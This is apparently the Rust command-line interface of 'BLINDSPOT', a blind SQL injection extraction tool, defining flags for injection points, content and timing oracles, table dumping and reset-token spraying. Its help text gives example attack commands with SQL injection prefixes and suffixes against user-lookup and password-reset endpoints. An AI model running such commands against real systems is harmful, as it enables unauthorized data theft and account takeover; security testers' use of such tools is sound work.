use anyhow::{anyhow, Context};
use blindspot::{CharStrategy, EngineConfig, TimingConfig};
use clap::Parser;
use std::collections::HashMap;
use std::time::Duration;

/// BLINDSPOT – blind-oracle data extraction
#[derive(Parser, Debug)]
#[command(
    name = "blindspot",
    version,
    about = "BLINDSPOT – recover data through a yes/no oracle (content or timing)",
    after_help = r#"EXAMPLES:

Content oracle:
  blindspot -t 'http://target/check?u=maria' -p u --prefix "maria' AND (" --suffix ")-- -" \
      --marker 'contains:Welcome' --current-db --tables
  blindspot -t http://target/api -p json:username --method POST --marker 'json:/exists=true' \
      --dialect postgres --dump users -D public

Timing oracle:
  blindspot -t http://target/ -p header:User-Agent --dialect mssql --prefix "'; " --suffix "--" \
      --time-delay 3 --time-threshold 2.5 --expr 'DB_NAME()'

Token spray:
  blindspot -t http://target/api/reset -p json:token --method POST --spray tokens.txt \
      --spray-marker '"valid"' --spray-cookie PHPSESSID --threads 100"#
)]
pub struct Cli {
    /// Target URL
    #[arg(short, long)]
    pub target: String,

    // ═══════════════════════════════════════════════════════════════════
    // INJECTION POINT
    // ═══════════════════════════════════════════════════════════════════
    /// Injected parameter: NAME (query), query:NAME, header:NAME, form:NAME or json:NAME
    #[arg(short, long, help_heading = "INJECTION")]
    pub param: String,

    /// HTTP method
    #[arg(long, default_value = "GET", help_heading = "INJECTION")]
    pub method: String,

    /// Other body fields sent with form/json injections (a=1&b=2)
    #[arg(long, help_heading = "INJECTION")]
    pub data: Option<String>,

    /// Text placed before the condition
    #[arg(long, default_value = "", help_heading = "INJECTION")]
    pub prefix: String,

    /// Text placed after the condition
    #[arg(long, default_value = "", help_heading = "INJECTION")]
    pub suffix: String,

    /// Backend dialect (mysql, mariadb, postgres, mssql)
    #[arg(long, required_unless_present = "config", help_heading = "INJECTION")]
    pub dialect: Option<String>,

    // ═══════════════════════════════════════════════════════════════════
    // ORACLE
    // ═══════════════════════════════════════════════════════════════════
    /// Content truth test: TEXT, contains:TEXT, lacks:TEXT, status:CODE, regex:RE, json:/ptr=VALUE
    #[arg(long, help_heading = "ORACLE")]
    pub marker: Option<String>,

    /// Timing oracle: seconds slept when the condition holds
    #[arg(long = "time-delay", requires = "time_threshold", help_heading = "ORACLE")]
    pub time_delay: Option<f64>,

    /// Timing oracle: elapsed seconds at or above which the answer is true
    #[arg(long = "time-threshold", requires = "time_delay", help_heading = "ORACLE")]
    pub time_threshold: Option<f64>,

    /// Timing oracle: reads this close to the threshold are retried, then rejected
    #[arg(long = "time-margin", help_heading = "ORACLE")]
    pub time_margin: Option<f64>,

    // ═══════════════════════════════════════════════════════════════════
    // ACTIONS
    // ═══════════════════════════════════════════════════════════════════
    /// Extract the value of an SQL expression or scalar subquery
    #[arg(long, help_heading = "ACTIONS")]
    pub expr: Option<String>,

    /// Retrieve the current database/schema name
    #[arg(long = "current-db", help_heading = "ACTIONS")]
    pub current_db: bool,

    /// Retrieve the DBMS version banner
    #[arg(long, help_heading = "ACTIONS")]
    pub banner: bool,

    /// List tables (of -D, or of the current database)
    #[arg(long, help_heading = "ACTIONS")]
    pub tables: bool,

    /// List columns of TABLE
    #[arg(long, value_name = "TABLE", help_heading = "ACTIONS")]
    pub columns: Option<String>,

    /// Dump every row of TABLE
    #[arg(long, value_name = "TABLE", help_heading = "ACTIONS")]
    pub dump: Option<String>,

    /// Database/schema to enumerate
    #[arg(short = 'D', long = "database", help_heading = "ACTIONS")]
    pub database: Option<String>,

    /// Spray the candidates in FILE (one per line) through the injection point
    #[arg(long, value_name = "FILE", requires = "spray_marker", help_heading = "ACTIONS")]
    pub spray: Option<String>,

    /// Spray: body text that marks an accepted candidate (with status 200)
    #[arg(long = "spray-marker", help_heading = "ACTIONS")]
    pub spray_marker: Option<String>,

    /// Spray: cookie reported alongside the winning candidate
    #[arg(long = "spray-cookie", help_heading = "ACTIONS")]
    pub spray_cookie: Option<String>,

    /// Spray: run candidates in sequential batches of this size
    #[arg(long = "batch-size", help_heading = "ACTIONS")]
    pub batch_size: Option<usize>,

    // ═══════════════════════════════════════════════════════════════════
    // TUNING
    // ═══════════════════════════════════════════════════════════════════
    /// Engine configuration file (JSON); flags below override it
    #[arg(long, help_heading = "TUNING")]
    pub config: Option<String>,

    /// Longest string searched for
    #[arg(long = "max-len", help_heading = "TUNING")]
    pub max_len: Option<usize>,

    /// Character ordinal range, e.g. 32-126
    #[arg(long, value_parser = parse_charset, help_heading = "TUNING")]
    pub charset: Option<(u8, u8)>,

    /// Bits used to recover counts
    #[arg(long = "max-bits", help_heading = "TUNING")]
    pub max_bits: Option<u32>,

    /// Recover characters bit by bit instead of by bisection
    #[arg(long, help_heading = "TUNING")]
    pub bitmask: bool,

    /// Transport retries per probe
    #[arg(long, help_heading = "TUNING")]
    pub retries: Option<u32>,

    /// Give up on a whole extraction after this many seconds
    #[arg(long, help_heading = "TUNING")]
    pub timeout: Option<f64>,

    // ═══════════════════════════════════════════════════════════════════
    // AUTHENTICATION
    // ═══════════════════════════════════════════════════════════════════
    /// Cookie header sent with every request
    #[arg(long, help_heading = "AUTHENTICATION")]
    pub cookie: Option<String>,

    /// HTTP headers (can be used multiple times)
    #[arg(long = "header", short = 'H', help_heading = "AUTHENTICATION")]
    pub headers: Vec<String>,

    // ═══════════════════════════════════════════════════════════════════
    // PERFORMANCE
    // ═══════════════════════════════════════════════════════════════════
    /// Maximum HTTP requests per second (0 = unlimited)
    #[arg(long, default_value_t = 0, help_heading = "PERFORMANCE")]
    pub rate: u32,

    /// Probes in flight (characters, spray candidates)
    #[arg(long, help_heading = "PERFORMANCE")]
    pub threads: Option<usize>,

    /// HTTP(S) proxy URL
    #[arg(long, help_heading = "PERFORMANCE")]
    pub proxy: Option<String>,

    /// Per-request timeout in seconds
    #[arg(long = "request-timeout", default_value_t = 30.0, help_heading = "PERFORMANCE")]
    pub request_timeout: f64,

    // ═══════════════════════════════════════════════════════════════════
    // OUTPUT
    // ═══════════════════════════════════════════════════════════════════
    /// Quiet mode (errors only)
    #[arg(short, long, help_heading = "OUTPUT")]
    pub quiet: bool,

    /// Verbose output (-v debug, -vv trace)
    #[arg(short, long, action = clap::ArgAction::Count, help_heading = "OUTPUT")]
    pub verbose: u8,

    /// Output format (text, json)
    #[arg(long, default_value = "text", value_parser = ["text", "json"], help_heading = "OUTPUT")]
    pub format: String,

    /// Output file path
    #[arg(short, long, help_heading = "OUTPUT")]
    pub output: Option<String>,
}

impl Cli {
    /// True if any extraction/enumeration action was requested.
    pub fn has_extraction(&self) -> bool {
        self.expr.is_some()
            || self.current_db
            || self.banner
            || self.tables
            || self.columns.is_some()
            || self.dump.is_some()
    }

    /// Engine configuration from `--config` (if any) overridden by flags.
    pub fn engine_config(&self) -> anyhow::Result<EngineConfig> {
        let mut config = match &self.config {
            Some(path) => {
                let raw = std::fs::read_to_string(path)
                    .with_context(|| format!("reading config {}", path))?;
                EngineConfig::from_json_str(&raw)?
            }
            None => EngineConfig::new(self.dialect.clone().unwrap_or_default()),
        };
        if let Some(dialect) = &self.dialect {
            config.dialect = dialect.clone();
        }

        if let Some(max_len) = self.max_len {
            config.max_len = max_len;
        }
        if let Some(bounds) = self.charset {
            config.charset_bounds = bounds;
        }
        if let Some(bits) = self.max_bits {
            config.max_bits = bits;
        }
        if self.bitmask {
            config.char_strategy = CharStrategy::BitMask;
        }
        if let Some(retries) = self.retries {
            config.retry_limit = retries;
        }
        if let Some(threads) = self.threads {
            config.concurrency_limit = threads;
        }
        if self.timeout.is_some() {
            config.timeout_secs = self.timeout;
        }
        if let (Some(delay), Some(threshold)) = (self.time_delay, self.time_threshold) {
            let mut timing = TimingConfig::new(delay, threshold);
            if let Some(margin) = self.time_margin {
                timing.margin_secs = margin;
            }
            config.timing = Some(timing);
        }

        config.validate()?;
        Ok(config)
    }

    /// `-H "Name: value"` pairs.
    pub fn header_map(&self) -> HashMap<String, String> {
        self.headers
            .iter()
            .filter_map(|h| h.split_once(':'))
            .map(|(k, v)| (k.trim().to_string(), v.trim().to_string()))
            .collect()
    }

    /// `--data a=1&b=2` as decoded pairs.
    pub fn data_fields(&self) -> Vec<(String, String)> {
        self.data
            .as_deref()
            .map(|data| {
                url::form_urlencoded::parse(data.as_bytes())
                    .into_owned()
                    .collect()
            })
            .unwrap_or_default()
    }

    pub fn request_timeout(&self) -> anyhow::Result<Duration> {
        if !(self.request_timeout > 0.0) {
            return Err(anyhow!("--request-timeout must be positive"));
        }
        Duration::try_from_secs_f64(self.request_timeout)
            .map_err(|e| anyhow!("--request-timeout {}: {}", self.request_timeout, e))
    }
}

fn parse_charset(raw: &str) -> Result<(u8, u8), String> {
    let (lo, hi) = raw
        .split_once('-')
        .ok_or_else(|| format!("expected LO-HI, got '{}'", raw))?;
    let lo = lo.trim().parse::<u8>().map_err(|e| e.to_string())?;
    let hi = hi.trim().parse::<u8>().map_err(|e| e.to_string())?;
    Ok((lo, hi))
}
